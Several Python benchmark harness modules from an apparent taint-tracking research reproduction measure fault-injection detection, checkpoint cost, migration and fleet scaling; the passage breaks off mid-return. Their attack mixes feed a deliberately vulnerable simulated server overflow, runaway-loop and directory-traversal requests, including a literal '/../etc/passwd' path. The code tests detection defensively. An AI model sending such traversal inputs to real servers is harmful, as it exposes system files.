        print(f"  speedup {entry['speedup']:.2f}x over always-on "
              f"({entry['speedup_vs_on']:.2f}x over adaptive-on), "
              f"identical={entry['identical_to_always_on']}, "
              f"rollbacks={entry['rollbacks']}", flush=True)
        contained.append(entry)
        if not metrics_text:
            from repro.obs.metrics import collect_machine

            metrics_text = collect_machine(speculate["machine"]).render(
                "specbench metrics — contained mix, speculate arm")

        print(f"specbench: misspeculation mix ({engine})", flush=True)
        mis = misspec_experiment(misspec_mix(mis_sums), engine)
        print(f"  rollbacks {mis['rollbacks']}/{mis['expected_rollbacks']}, "
              f"replay_digest_equal={mis['replay_digest_equal']}, "
              f"H4={mis['h4_detected']}", flush=True)
        misspec.append(mis)

    print("specbench: word granularity (contained mix)", flush=True)
    word = contained_experiment(contained_mix(sums), engines[0],
                                WORD_OPTIONS, name="contained_word")
    word.pop("_speculate")
    print(f"  speedup {word['speedup']:.2f}x, "
          f"identical={word['identical_to_always_on']}", flush=True)

    def _engine_key(arm: Dict) -> Tuple:
        return (arm["cycles"], arm["served"], arm["alerts"],
                arm["spec"]["epochs"], arm["spec"]["rollbacks"])

    cross_engine_identical = all(
        _engine_key(c["speculate"]) == _engine_key(contained[0]["speculate"])
        for c in contained[1:]) and all(
        _engine_key(m["speculate"]) == _engine_key(misspec[0]["speculate"])
        for m in misspec[1:])

    report = {
        "config": {
            "engines": list(engines),
            "quick": quick,
            "speedup_gate": SPEEDUP_GATE,
            "python": sys.version.split()[0],
        },
        "contained": contained,
        "misspec": misspec,
        "word": word,
        "cross_engine_identical": cross_engine_identical,
    }
    return report, metrics_text


def gate(report: Dict) -> int:
    """Check the CI gate conditions; returns a process exit code."""
    failures = []
    for entry in report["contained"]:
        tag = f"contained[{entry['engine']}]"
        if entry["speedup"] < SPEEDUP_GATE:
            failures.append(
                f"{tag} speedup {entry['speedup']:.2f} < {SPEEDUP_GATE}")
        if not entry["identical_to_always_on"]:
            failures.append(f"{tag} diverged from always-on")
        if entry["rollbacks"] != 0:
            failures.append(
                f"{tag} rolled back {entry['rollbacks']} clean epochs")
        if entry["uninstrumented"]["alerts"]:
            failures.append(f"{tag} uninstrumented arm alerted (traffic bug)")
    for mis in report["misspec"]:
        tag = f"misspec[{mis['engine']}]"
        if mis["rollbacks"] != mis["expected_rollbacks"]:
            failures.append(
                f"{tag} rollbacks {mis['rollbacks']} != "
                f"{mis['expected_rollbacks']}")
        if not mis["replay_digest_equal"]:
            failures.append(f"{tag} replay diverged from straight track run")
        if not mis["h4_detected"]:
            failures.append(f"{tag} H4 command injection not detected")
    word = report["word"]
    if word["speedup"] < SPEEDUP_GATE:
        failures.append(
            f"word-granularity speedup {word['speedup']:.2f} < {SPEEDUP_GATE}")
    if not word["identical_to_always_on"]:
        failures.append("word-granularity run diverged from always-on")
    if not report["cross_engine_identical"]:
        failures.append("engines disagreed on the speculate arm")
    for failure in failures:
        print(f"GATE FAIL: {failure}", file=sys.stderr)
    return 1 if failures else 0


def main(argv=None) -> int:
    # No --seed: the mixes are deterministic.  Cross-engine identity is
    # part of the gate, so --engine defaults to the both-engine sweep.
    parser = bench_parser("repro.harness.specbench", __doc__,
                          output="BENCH_spec.json", seed=None, engine=False)
    parser.add_argument("--engine", default="both",
                        choices=("reference", "predecoded", "both"),
                        help="execution engine (default: both)")
    args = parser.parse_args(argv)
    engines = (["predecoded", "reference"] if args.engine == "both"
               else [args.engine])

    report, metrics_text = run_suite(args.quick, engines)
    out_path = write_report(report, args.output)
    metrics_path = out_path.parent / "metrics.txt"
    metrics_path.write_text(metrics_text + "\n")
    print(f"wrote {metrics_path}")
    if args.gate:
        return gate(report)
    return 0


if __name__ == "__main__":
    sys.exit(main())
