"""Resilience benchmark: fault-injection campaign + attack-mix server.

Two experiments, one report (``BENCH_resil.json``):

1. **Fault-injection campaign** (:mod:`repro.resil.inject`): seeded,
   deterministic injections — taint-tag flips into a victim kernel,
   NaT drops into SPEC kernels, transient device errors and truncated
   reads — with per-kind detection/recovery rates.  Every workload also
   runs uninjected as a control; a control that alerts is a false
   positive and fails the gate.
2. **Attack-mix webserver**: the deliberately vulnerable server
   (:data:`repro.apps.webserver.RESIL_WEBSERVER_SOURCE`) in ``recover``
   mode, fed interleaved clean requests and attacks (buffer overflow,
   directory traversal, and a watchdog-caught infinite retry loop).
   The server must answer every clean request and quarantine every
   attack without terminating early.

::

    PYTHONPATH=src python -m repro.harness.resilbench --quick --gate

``--gate`` exits non-zero unless tag-flip and NaT-drop detection are
both >= 0.95 on armed injections, no trial or control raised a false
alert, and the attack mix came out exact — the conditions the CI smoke
job enforces.
"""

from __future__ import annotations

import sys
from typing import Dict

from repro.apps.webserver import (
    make_request,
    overflow_request,
    runaway_request,
    traversal_request,
)
from repro.compiler.instrument import ShiftOptions
from repro.harness.benchcli import bench_parser, write_report
from repro.harness.runners import build_web_machine
from repro.resil.inject import run_campaign

#: The vulnerable server must run strict (default pointer policy):
#: the planted bugs are exactly the corrupted-address loads L1 exists
#: to catch.
ATTACK_OPTIONS = ShiftOptions(granularity=1)

#: Per-request instruction budget for the attack mix.  A clean request
#: completes in well under 100k instructions; the retry-loop attack
#: never completes at all.
ATTACK_WATCHDOG = 2_000_000


def attack_mix(engine: str = "predecoded", clean_requests: int = 6,
               adaptive: str = "none") -> Dict:
    """Run the attack-mix server experiment; returns the report entry.

    ``adaptive`` builds the same vulnerable server dual-version (see
    :mod:`repro.adaptive`); adaptivebench uses it to prove on-demand
    tracking quarantines the identical attack set.
    """
    machine = build_web_machine(
        "resil", ATTACK_OPTIONS,
        engine_mode="recover",
        recover_watchdog=ATTACK_WATCHDOG,
        engine=engine,
        adaptive=adaptive,
    )
    attacks = (overflow_request(), traversal_request(), runaway_request())
    expected_reasons = ("alert", "alert", "runaway")
    # Interleave: clean, attack, clean, attack, ... clean.
    for i in range(clean_requests):
        machine.net.add_request(make_request(4))
        if i < len(attacks):
            machine.net.add_request(attacks[i])
    served = machine.run(max_instructions=1_000_000_000)

    sup = machine.resil
    clean_ok = served == clean_requests and all(
        bytes(c.outbound).startswith(b"HTTP/1.0 200")
        for c in machine.net.completed)
    reasons = tuple(i.reason for i in sup.incidents)
    exact = (clean_ok
             and len(machine.net.quarantined) == len(attacks)
             and reasons == expected_reasons)
    adaptive_stats = None
    if machine.adaptive is not None:
        adaptive_stats = {
            "switches_to_fast": machine.adaptive.switches_to_fast,
            "switches_to_track": machine.adaptive.switches_to_track,
            "final_mode": machine.adaptive.mode,
        }
    return {
        "engine": engine,
        "adaptive": adaptive,
        "adaptive_stats": adaptive_stats,
        "clean_requests": clean_requests,
        "attacks": len(attacks),
        "served": served,
        "quarantined": len(machine.net.quarantined),
        "incidents": [
            {"request": i.request_index, "reason": i.reason,
             "policy": i.policy_id}
            for i in sup.incidents
        ],
        "checkpoints": sup.checkpoints_taken,
        "exact": exact,
    }


def run_suite(quick: bool, seed: int, trials: int, scale: str,
              engine: str) -> Dict:
    """Campaign + attack mix; returns the full report dict."""
    print("resilbench: fault-injection campaign", flush=True)
    campaign = run_campaign(trials_per_kind=trials, seed=seed,
                            engine=engine, quick=quick, scale=scale)
    for kind, summary in campaign["kinds"].items():
        rate = summary.get("detection_rate")
        shown = f"detection {rate:.2f}" if rate is not None else "no gate"
        print(f"  {kind:14s} {summary['trials']} trials, {shown}", flush=True)
    print("resilbench: attack-mix webserver", flush=True)
    mix = attack_mix(engine=engine)
    print(f"  served {mix['served']}/{mix['clean_requests']} clean, "
          f"quarantined {mix['quarantined']}/{mix['attacks']} attacks, "
          f"exact={mix['exact']}", flush=True)
    return {
        "config": {
            "seed": seed,
            "engine": engine,
            "scale": scale,
            "quick": quick,
            "python": sys.version.split()[0],
        },
        "campaign": campaign,
        "attack_mix": mix,
    }


def gate(report: Dict) -> int:
    """Check the CI gate conditions; returns a process exit code."""
    failures = []
    kinds = report["campaign"]["kinds"]
    for kind in ("tag_flip", "nat_drop"):
        rate = kinds[kind]["detection_rate"]
        if rate < 0.95:
            failures.append(f"{kind} detection {rate:.2f} < 0.95")
    false_alerts = (
        sum(c["false_alerts"] for c in report["campaign"]["controls"])
        + sum(k.get("false_alerts", 0) for k in kinds.values()))
    if false_alerts:
        failures.append(f"{false_alerts} false alert(s)")
    if not report["attack_mix"]["exact"]:
        failures.append("attack mix was not exact")
    for failure in failures:
        print(f"GATE FAIL: {failure}", file=sys.stderr)
    return 1 if failures else 0


def main(argv=None) -> int:
    parser = bench_parser("repro.harness.resilbench", __doc__,
                          output="BENCH_resil.json", seed=12345,
                          scale="test")
    parser.add_argument("--trials", type=int, default=10,
                        help="trials per injection kind (default: 10)")
    args = parser.parse_args(argv)

    report = run_suite(args.quick, args.seed, args.trials, args.scale,
                       args.engine)
    write_report(report, args.output)
    if args.gate:
        return gate(report)
    return 0


if __name__ == "__main__":
    sys.exit(main())
