"""Checkpoint benchmark: COW delta capture, recover-mode throughput
and live-migration round trips.

    PYTHONPATH=src python -m repro.harness.ckptbench --quick --gate

Four experiments:

* **capture scaling** — full-snapshot capture pays for the resident
  set; delta capture pays only for pages touched since the last
  checkpoint.  Measured over growing resident footprints.
* **throughput** — the webserver mix run in ``standard`` mode (no
  checkpointing), ``recover`` with COW deltas, and ``recover`` with
  full per-request snapshots.  ``--gate`` enforces the headline claim:
  delta-checkpointed recover mode within 10% of standard.
* **equivalence** — the resilbench attack mix under ``use_delta``
  on/off must quarantine identically and end in a byte-identical
  machine state, under both engines.
* **migration** — pack a mid-stream session (pending queue, live
  taint, quarantine evidence) and replay it on a fresh worker; the
  response stream must be digest-identical.  Pack/rehydrate cost and
  blob size are reported.
"""

from __future__ import annotations

import gc
import hashlib
import sys
import time
from typing import Dict, List, Sequence, Tuple

from repro.apps.webserver import (
    make_request,
    overflow_request,
    runaway_request,
    traversal_request,
)
from repro.compiler.instrument import ShiftOptions
from repro.fleet.driver import FleetConfig, build_worker, migrate_worker
from repro.harness.benchcli import bench_parser, write_report
from repro.harness.runners import build_web_machine
from repro.mem import PAGE_SIZE, REGION_DATA, make_address
from repro.resil import DeltaCheckpoint, MachineCheckpoint
from repro.resil.migrate import pack_worker, rehydrate_worker

OPTIONS = ShiftOptions(granularity=1)
WATCHDOG = 2_000_000
ENGINES = ("reference", "predecoded")

#: Where capture-scaling seeds its synthetic resident block — far above
#: the webserver's live data so the guest never writes into it.
SEED_BASE = make_address(REGION_DATA, 0x40_0000)


def _machine(engine: str, mode: str = "recover", clean: int = 0,
             attacks: Sequence = ()):
    machine = build_web_machine(
        "resil", OPTIONS,
        engine_mode=mode,
        recover_watchdog=WATCHDOG if mode == "recover" else None,
        engine=engine,
    )
    attacks = list(attacks)
    for i in range(clean):
        machine.net.add_request(make_request(4))
        if i < len(attacks):
            machine.net.add_request(attacks[i])
    return machine


def _state_digest(machine) -> str:
    """Hash of everything rollback must make bit-identical."""
    h = hashlib.sha256()
    cpu = machine.cpu
    h.update(repr((list(cpu.gr), list(cpu.nat), list(cpu.pr),
                   list(cpu.br), cpu.pc, cpu.halted,
                   machine.counters.snapshot())).encode())
    for pno in sorted(machine.memory._pages):
        page = machine.memory._pages[pno]
        if any(page):
            h.update(pno.to_bytes(8, "little"))
            h.update(bytes(page))
    h.update(bytes(machine.console.out))
    h.update(repr([bytes(c.inbound)
                   for c in machine.net.quarantined]).encode())
    return h.hexdigest()


def capture_scaling(engine: str,
                    residents: Sequence[int] = (0, 32, 128)) -> List[Dict]:
    """Full vs delta capture cost as the resident footprint grows."""
    rows = []
    for extra_pages in residents:
        machine = _machine(engine, mode="raise", clean=6)
        if extra_pages:
            machine.memory.write_bytes(
                SEED_BASE, b"\x5A" * (extra_pages * PAGE_SIZE))
        machine.cpu.run_slice(3_000)
        t0 = time.perf_counter()
        base = MachineCheckpoint.capture(machine)
        full_s = time.perf_counter() - t0
        machine.cpu.run_slice(4_000)
        t0 = time.perf_counter()
        delta = DeltaCheckpoint.capture(machine, base)
        delta_s = time.perf_counter() - t0
        rows.append({
            "resident_pages": machine.memory.pages_touched(),
            "full_pages": base.page_count,
            "full_ms": round(full_s * 1e3, 4),
            "delta_pages": delta.page_count,
            "delta_ms": round(delta_s * 1e3, 4),
        })
    return rows


def _serve_once(engine: str, mode: str, requests: int,
                use_delta: bool) -> Tuple[float, object]:
    machine = _machine(engine, mode=mode, clean=requests)
    if mode == "recover":
        machine.resil.use_delta = use_delta
    t0 = time.perf_counter()
    machine.run()
    return time.perf_counter() - t0, machine


def _median(values) -> float:
    ordered = sorted(values)
    mid = len(ordered) // 2
    if len(ordered) % 2:
        return ordered[mid]
    return (ordered[mid - 1] + ordered[mid]) / 2.0


def throughput(engine: str, requests: int, repeats: int) -> Dict:
    """standard vs recover(delta) vs recover(full) on clean traffic.

    Median-of-N *marginal* per-request cost, with the three arms
    interleaved round-robin.  Every fresh machine pays a fixed warm-up
    (compile cache on the first build, per-CPU predecode on the first
    slice) that dwarfs the per-request serving cost at bench scale;
    timing two run lengths and taking the difference cancels it.  The
    other two choices are just as load-bearing: the arms interleave
    because host-side drift (frequency boost decay, page-cache state)
    is slow compared to one run, so back-to-back arms would bias
    whichever ran last; and the statistic is the *median of per-pair
    marginals* — not a difference of per-length minima, which lets one
    lucky short run inflate (or lucky long run deflate) the estimate.
    """
    small = max(4, requests // 5)
    # Warm the shared compile cache so repeat 1 is comparable.
    _serve_once(engine, "raise", 1, True)
    arms = {"standard": ("raise", True),
            "recover_delta": ("recover", True),
            "recover_full": ("recover", False)}
    samples = {name: [] for name in arms}
    stats: Dict[str, Dict] = {}
    gc.disable()
    try:
        for _ in range(repeats):
            for name, (mode, use_delta) in arms.items():
                # One marginal per (small, large) *pair*: the two runs
                # are adjacent in time so slow host drift cancels
                # inside the pair.  Collect outside the timed region
                # so GC pauses never land mid-measurement, and drop
                # each machine before the next pair so no arm times
                # its runs with another arm's footprint resident.
                gc.collect()
                small_s, _ = _serve_once(engine, mode, small, use_delta)
                large_s, machine = _serve_once(
                    engine, mode, requests, use_delta)
                samples[name].append((large_s - small_s)
                                     / (requests - small))
                stat = {"served": len(machine.net.completed)}
                if mode == "recover":
                    sup = machine.resil
                    stat["captures"] = sup.checkpoints_taken
                    stat["delta_captures"] = sup.delta_captures
                    stat["pages_captured"] = sup.pages_captured
                stats[name] = stat
                del machine
    finally:
        gc.enable()

    results = {}
    for name in arms:
        marginal = _median(samples[name])
        results[name] = dict(
            {"ms_per_request": round(marginal * 1e3, 4),
             "rps": round(1.0 / marginal, 2)}, **stats[name])
    standard, delta, full = (results["standard"], results["recover_delta"],
                             results["recover_full"])
    return {
        "requests": requests,
        "repeats": repeats,
        "standard": standard,
        "recover_delta": delta,
        "recover_full": full,
        "delta_overhead": round(
            delta["ms_per_request"] / standard["ms_per_request"] - 1.0, 4),
        "full_overhead": round(
            full["ms_per_request"] / standard["ms_per_request"] - 1.0, 4),
    }


def equivalence() -> Dict:
    """Attack mix with deltas on/off: identical quarantine, identical
    final state, under both engines."""
    attacks = (overflow_request(), traversal_request(), runaway_request())
    per_engine = {}
    for engine in ENGINES:
        digests = {}
        quarantined = {}
        for use_delta in (True, False):
            machine = _machine(engine, clean=4, attacks=attacks)
            machine.resil.use_delta = use_delta
            machine.run()
            key = "delta" if use_delta else "full"
            digests[key] = _state_digest(machine)
            quarantined[key] = len(machine.net.quarantined)
        per_engine[engine] = {
            "identical": digests["delta"] == digests["full"],
            "quarantined": quarantined["delta"],
            "digest": digests["delta"][:16],
        }
    return {
        "engines": per_engine,
        "identical": all(e["identical"] and e["quarantined"] == len(attacks)
                         for e in per_engine.values()),
    }


def migration(engine: str) -> Dict:
    """Mid-stream move: pack at "before request 3", replay on a twin."""
    config = FleetConfig(
        variant="resil", options=OPTIONS, engine=engine,
        engine_mode="recover", recover_watchdog=WATCHDOG)
    source = build_worker(config, "src")
    for i in range(6):
        source.net.add_request(make_request(4))
        if i == 3:
            source.net.add_request(overflow_request())
    source.run()
    src_responses = [bytes(c.outbound) for c in source.net.completed]

    t0 = time.perf_counter()
    blob, target = migrate_worker(config, source, "tgt", at_request=3)
    move_s = time.perf_counter() - t0
    t0 = time.perf_counter()
    target.run()
    replay_s = time.perf_counter() - t0
    identical = (
        [bytes(c.outbound) for c in target.net.completed] == src_responses
        and len(target.net.quarantined) == len(source.net.quarantined))

    # Isolated pack / rehydrate cost on the finished source state.
    t0 = time.perf_counter()
    blob_now = pack_worker(source)
    pack_s = time.perf_counter() - t0
    fresh = build_worker(config, "fresh")
    t0 = time.perf_counter()
    rehydrate_worker(blob_now, fresh)
    rehydrate_s = time.perf_counter() - t0

    return {
        "blob_bytes": len(blob),
        "move_ms": round(move_s * 1e3, 3),
        "replay_ms": round(replay_s * 1e3, 3),
        "pack_ms": round(pack_s * 1e3, 3),
        "rehydrate_ms": round(rehydrate_s * 1e3, 3),
        "digest_identical": identical,
        "quarantined": len(target.net.quarantined),
    }


def run_suite(quick: bool, engine: str) -> Dict:
    residents: Tuple[int, ...] = (0, 32) if quick else (0, 32, 128, 512)
    requests = 120 if quick else 300
    repeats = 5 if quick else 7

    print("ckptbench: capture scaling", flush=True)
    scaling = capture_scaling(engine, residents)
    for row in scaling:
        print(f"  {row['resident_pages']:4d} resident pages: "
              f"full {row['full_pages']:4d}p/{row['full_ms']:.2f}ms, "
              f"delta {row['delta_pages']:4d}p/{row['delta_ms']:.2f}ms",
              flush=True)

    print("ckptbench: recover-vs-standard throughput", flush=True)
    tput = throughput(engine, requests, repeats)
    print(f"  standard {tput['standard']['rps']:.0f} req/s, "
          f"delta {tput['recover_delta']['rps']:.0f} req/s "
          f"({tput['delta_overhead']:+.1%}), "
          f"full {tput['recover_full']['rps']:.0f} req/s "
          f"({tput['full_overhead']:+.1%})", flush=True)

    print("ckptbench: delta/full equivalence", flush=True)
    equiv = equivalence()
    print(f"  bit-identical under both engines: {equiv['identical']}",
          flush=True)

    print("ckptbench: migration round-trip", flush=True)
    mig = migration(engine)
    print(f"  blob {mig['blob_bytes']} B, pack {mig['pack_ms']:.2f}ms, "
          f"rehydrate {mig['rehydrate_ms']:.2f}ms, "
          f"digest-identical: {mig['digest_identical']}", flush=True)

    return {
        "config": {
            "quick": quick,
            "engine": engine,
            "python": sys.version.split()[0],
        },
        "capture_scaling": scaling,
        "throughput": tput,
        "equivalence": equiv,
        "migration": mig,
    }


def gate(report: Dict) -> int:
    """Check the CI gate conditions; returns a process exit code."""
    failures = []
    tput = report["throughput"]
    if tput["delta_overhead"] > 0.10:
        failures.append(
            f"delta recover overhead {tput['delta_overhead']:+.1%} "
            "exceeds the 10% budget")
    if not report["equivalence"]["identical"]:
        failures.append("delta and full supervision diverged")
    if not report["migration"]["digest_identical"]:
        failures.append("migrated replay was not digest-identical")
    largest = report["capture_scaling"][-1]
    if largest["delta_pages"] >= largest["full_pages"]:
        failures.append(
            f"delta capture ({largest['delta_pages']}p) did not beat the "
            f"full snapshot ({largest['full_pages']}p) at the largest "
            "footprint")
    for failure in failures:
        print(f"GATE FAIL: {failure}", file=sys.stderr)
    return 1 if failures else 0


def main(argv=None) -> int:
    parser = bench_parser("repro.harness.ckptbench", __doc__,
                          output="BENCH_ckpt.json", seed=None)
    args = parser.parse_args(argv)
    report = run_suite(args.quick, args.engine)
    write_report(report, args.output)
    if args.gate:
        return gate(report)
    return 0


if __name__ == "__main__":
    sys.exit(main())
