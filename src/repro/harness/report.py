"""Run the complete evaluation and archive every regenerated table.

Usage::

    python -m repro.harness.report [--scale test|ref] [--out results/]

Regenerates Tables 1-3, Figures 6-9, the related-work comparison and
the design ablations, printing each and writing it under ``--out``.
"""

from __future__ import annotations

import argparse
import pathlib
import time

from repro.harness.charts import figure7_chart, figure8_chart, figure9_chart
from repro.harness import (
    format_ablations,
    format_baselines,
    format_figure6,
    format_figure7,
    format_figure8,
    format_figure9,
    format_table1_output,
    format_table2,
    format_table3,
    format_width_ablation,
    run_ablations,
    run_baseline_comparison,
    run_figure6,
    run_figure7,
    run_figure8,
    run_figure9,
    run_table2,
    run_table3,
    run_width_ablation,
)


def _with_chart(result, table_fn, chart_fn) -> str:
    return table_fn(result) + "\n\n" + chart_fn(result)


def _metrics_dump(scale: str) -> str:
    """Run one instrumented kernel and render its full metrics registry."""
    from repro.apps.spec import BENCHMARKS
    from repro.core.shift import build_machine
    from repro.harness.runners import PERF_OPTIONS, compiled_spec, spec_policy
    from repro.obs.metrics import collect_machine

    bench = BENCHMARKS["gzip"]
    machine = build_machine(
        compiled_spec(bench, PERF_OPTIONS["byte"], scale),
        policy_config=spec_policy(safe_input=False),
        files={"/data": bench.make_input(scale)},
    )
    machine.run()
    return collect_machine(machine).render(
        f"Observability metrics registry — gzip ({scale}, byte-level)")


def main(argv=None) -> int:
    """CLI entry point: run and archive every experiment."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--scale", choices=("test", "ref"), default="ref",
                        help="workload scale (ref regenerates the paper runs)")
    parser.add_argument("--out", default="results",
                        help="directory for the archived tables")
    parser.add_argument("--requests", type=int, default=25,
                        help="web-server requests per Figure 6 point")
    args = parser.parse_args(argv)

    out_dir = pathlib.Path(args.out)
    out_dir.mkdir(exist_ok=True)

    experiments = [
        ("table1", lambda: format_table1_output()),
        ("table2", lambda: format_table2(run_table2())),
        ("table3", lambda: format_table3(run_table3(scale=args.scale))),
        ("figure6", lambda: format_figure6(
            run_figure6(requests=args.requests))),
        ("figure7", lambda: _with_chart(run_figure7(scale=args.scale),
                                        format_figure7, figure7_chart)),
        ("figure8", lambda: _with_chart(run_figure8(scale=args.scale),
                                        format_figure8,
                                        lambda r: figure8_chart(r, "byte"))),
        ("figure9", lambda: _with_chart(run_figure9(scale=args.scale),
                                        format_figure9,
                                        lambda r: figure9_chart(r, "byte"))),
        ("baselines", lambda: format_baselines(
            run_baseline_comparison(scale=args.scale))),
        ("ablations", lambda: format_ablations(
            run_ablations(scale=args.scale, benchmarks=["gzip", "gcc", "mcf"]))),
        ("ablation_width", lambda: format_width_ablation(
            run_width_ablation(scale="test"))),
        ("metrics", lambda: _metrics_dump(args.scale)),
    ]

    for name, runner in experiments:
        start = time.time()
        text = runner()
        elapsed = time.time() - start
        print(f"\n{'=' * 72}\n{text}\n[{name}: {elapsed:.1f}s]")
        (out_dir / f"{name}.txt").write_text(text + "\n")
    print(f"\nAll tables written to {out_dir}/")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
