"""Fleet benchmark: scaling, attack mix, and the two-tier taint proof.

Five experiments, one report (``BENCH_fleet.json``):

1. **Throughput scaling**: the same request batch served by fleets of
   1/2/4/8 workers.  Workers are independent machines running
   concurrently in simulated time, so fleet throughput is measured
   against the *slowest worker's* cycles; the gate requires >= 2.5x
   simulated throughput going from 1 to 4 workers.
2. **Attack mix**: clean requests interleaved with directory-traversal
   and buffer-overflow attacks, sharded across the fleet.  Workers run
   in ``recover`` mode: every attack must be quarantined (100%
   detection), every clean request answered, no worker ejected.
3. **Clean control**: the same fleet on attack-free traffic must
   produce zero alerts and zero quarantines — the false-positive side
   of the detection claim.
4. **Two-tier proof** (:mod:`repro.fleet.tiers`): a traversal injected
   at the tier-1 proxies is caught by H2 at the tier-2 backend *only*
   because the taint crossed the wire in the TaggedMessage frame; the
   control arm (tags stripped) must leak the planted secret with zero
   alerts.
5. **Reproducibility**: the scaling fleet re-run at the same seed must
   produce a bit-identical result digest, and the multiprocessing
   driver must match the in-process driver digest exactly.

::

    PYTHONPATH=src python -m repro.harness.fleetbench --quick --gate

``--gate`` exits non-zero unless every experiment above holds — the
conditions the CI ``fleet-smoke`` job enforces (quick mode gates the
1->2 worker scaling at >= 1.6x instead).
"""

from __future__ import annotations

import sys
from typing import Dict, List

from repro.apps.webserver import (
    make_request,
    overflow_request,
    traversal_request,
)
from repro.compiler.instrument import ShiftOptions
from repro.fleet import FleetConfig, FleetDriver, two_tier_experiment
from repro.harness.benchcli import bench_parser, write_report

#: Fleet sizes measured by the scaling experiment.
SCALING_WORKERS = (1, 2, 4, 8)
QUICK_WORKERS = (1, 2)

#: Strict pointer policy so the overflow attack in the mix is caught.
ATTACK_OPTIONS = ShiftOptions(granularity=1)

#: Per-request instruction budget for recover-mode fleet workers.
FLEET_WATCHDOG = 2_000_000


def _fleet_config(engine: str, *, strict: bool = False) -> FleetConfig:
    # Strict fleets serve the deliberately vulnerable server variant
    # under the strict pointer policy — the configuration whose planted
    # overflow the mix's buffer-smash attack actually reaches.
    return FleetConfig(
        variant="resil" if strict else "standard",
        options=ATTACK_OPTIONS if strict else None,
        engine=engine,
        recover_watchdog=FLEET_WATCHDOG,
    )


def scaling_run(worker_counts, requests: int, seed: int,
                engine: str) -> Dict:
    """Serve one batch with fleets of increasing size."""
    batch = [make_request(4) for _ in range(requests)]
    per_fleet: Dict[str, Dict] = {}
    digests: Dict[int, str] = {}
    for workers in worker_counts:
        driver = FleetDriver(_fleet_config(engine), workers=workers,
                             routing="round_robin", seed=seed)
        result = driver.run(batch)
        digests[workers] = result.digest()
        per_fleet[str(workers)] = {
            "workers": workers,
            "served": result.served,
            "sim_cycles": result.sim_cycles,
            "sim_throughput": result.sim_throughput,
            "routed": result.routed,
            "wall_seconds": round(result.wall_seconds, 3),
        }
    base = per_fleet[str(worker_counts[0])]["sim_throughput"]
    speedups = {
        str(w): per_fleet[str(w)]["sim_throughput"] / base
        for w in worker_counts
    }
    target = worker_counts[-1] if len(worker_counts) < 3 else 4
    return {
        "requests": requests,
        "fleets": per_fleet,
        "speedup_vs_1": {k: round(v, 3) for k, v in speedups.items()},
        "target_workers": target,
        "scaling": round(speedups[str(target)], 3),
        "digests": digests,
    }


def attack_mix_run(workers: int, clean_requests: int, seed: int,
                   engine: str) -> Dict:
    """Clean + attack traffic sharded across a recover-mode fleet."""
    attacks: List[bytes] = [traversal_request(), overflow_request(),
                            traversal_request("/../etc/passwd")]
    batch: List[bytes] = []
    for i in range(clean_requests):
        batch.append(make_request(4))
        if i < len(attacks):
            batch.append(attacks[i])
    driver = FleetDriver(_fleet_config(engine, strict=True),
                         workers=workers, seed=seed)
    result = driver.run(batch)
    detection = (result.quarantined / len(attacks)) if attacks else 1.0
    exact = (result.served == clean_requests
             and result.quarantined == len(attacks)
             and not result.ejected
             and result.unserved == 0)
    return {
        "workers": workers,
        "clean_requests": clean_requests,
        "attacks": len(attacks),
        "served": result.served,
        "quarantined": result.quarantined,
        "detection_rate": detection,
        "ejected": result.ejected,
        "incidents": [
            {"worker": i["worker"], "request": i["request_index"],
             "reason": i["reason"], "policy": i["policy_id"]}
            for i in result.incidents()
        ],
        "exact": exact,
    }


def clean_control_run(workers: int, requests: int, seed: int,
                      engine: str) -> Dict:
    """Attack-free traffic: any alert or quarantine is a false positive."""
    batch = [make_request(4) for _ in range(requests)]
    driver = FleetDriver(_fleet_config(engine, strict=True),
                         workers=workers, seed=seed)
    result = driver.run(batch)
    false_alerts = sum(len(w["alerts"]) for w in result.workers)
    return {
        "workers": workers,
        "requests": requests,
        "served": result.served,
        "false_alerts": false_alerts,
        "quarantined": result.quarantined,
        "clean": (result.served == requests and false_alerts == 0
                  and result.quarantined == 0),
    }


def reproducibility_run(workers: int, requests: int, seed: int,
                        engine: str) -> Dict:
    """Same seed twice in-process, once via multiprocessing: one digest."""
    batch = [make_request(4) for _ in range(requests)]
    driver = FleetDriver(_fleet_config(engine), workers=workers, seed=seed)
    first = driver.run(batch).digest()
    second = driver.run(batch).digest()
    mp_result = driver.run(batch, processes=True)
    return {
        "workers": workers,
        "requests": requests,
        "digest": first,
        "rerun_identical": first == second,
        "processes_identical": first == mp_result.digest(),
        # The multiprocessing path is the one with a real wall clock;
        # utilization is busy-cycles / slowest-worker-cycles per worker.
        "multiprocessing": {
            "wall_seconds": round(mp_result.wall_seconds, 3),
            "utilization": {wid: round(u, 4)
                            for wid, u in mp_result.utilization.items()},
        },
    }


def run_suite(quick: bool, seed: int, engine: str, requests: int) -> Dict:
    """All five experiments; returns the full report dict."""
    worker_counts = QUICK_WORKERS if quick else SCALING_WORKERS
    mix_workers = 2

    print("fleetbench: throughput scaling", flush=True)
    scaling = scaling_run(worker_counts, requests, seed, engine)
    for w in worker_counts:
        entry = scaling["fleets"][str(w)]
        print(f"  {w} worker(s): {entry['sim_cycles']:.0f} cycles, "
              f"{entry['sim_throughput']:.1f} req/Gcycle "
              f"({scaling['speedup_vs_1'][str(w)]:.2f}x)", flush=True)

    print("fleetbench: attack mix", flush=True)
    mix = attack_mix_run(mix_workers, clean_requests=6, seed=seed,
                         engine=engine)
    print(f"  served {mix['served']}/{mix['clean_requests']} clean, "
          f"quarantined {mix['quarantined']}/{mix['attacks']} attacks, "
          f"detection {mix['detection_rate']:.2f}", flush=True)

    print("fleetbench: clean control", flush=True)
    control = clean_control_run(mix_workers, requests=6, seed=seed,
                                engine=engine)
    print(f"  served {control['served']}/{control['requests']}, "
          f"false alerts {control['false_alerts']}", flush=True)

    print("fleetbench: two-tier taint transport", flush=True)
    two_tier = two_tier_experiment(clean=4, attacks=2, proxy_workers=2,
                                   seed=seed, engine=engine)
    print(f"  tagged: {two_tier['tagged']['tier2']['detected_h2']} H2 "
          f"detections, leaked={two_tier['tagged']['tier2']['secret_leaked']}"
          f" | control: {two_tier['control']['tier2']['detected_h2']} "
          f"detections, leaked="
          f"{two_tier['control']['tier2']['secret_leaked']} | "
          f"proof={two_tier['proof']}", flush=True)

    print("fleetbench: reproducibility", flush=True)
    repro = reproducibility_run(2, requests=min(requests, 8), seed=seed,
                                engine=engine)
    print(f"  rerun identical: {repro['rerun_identical']}, "
          f"multiprocessing identical: {repro['processes_identical']}",
          flush=True)

    return {
        "config": {
            "seed": seed,
            "engine": engine,
            "quick": quick,
            "requests": requests,
            "python": sys.version.split()[0],
        },
        "scaling": scaling,
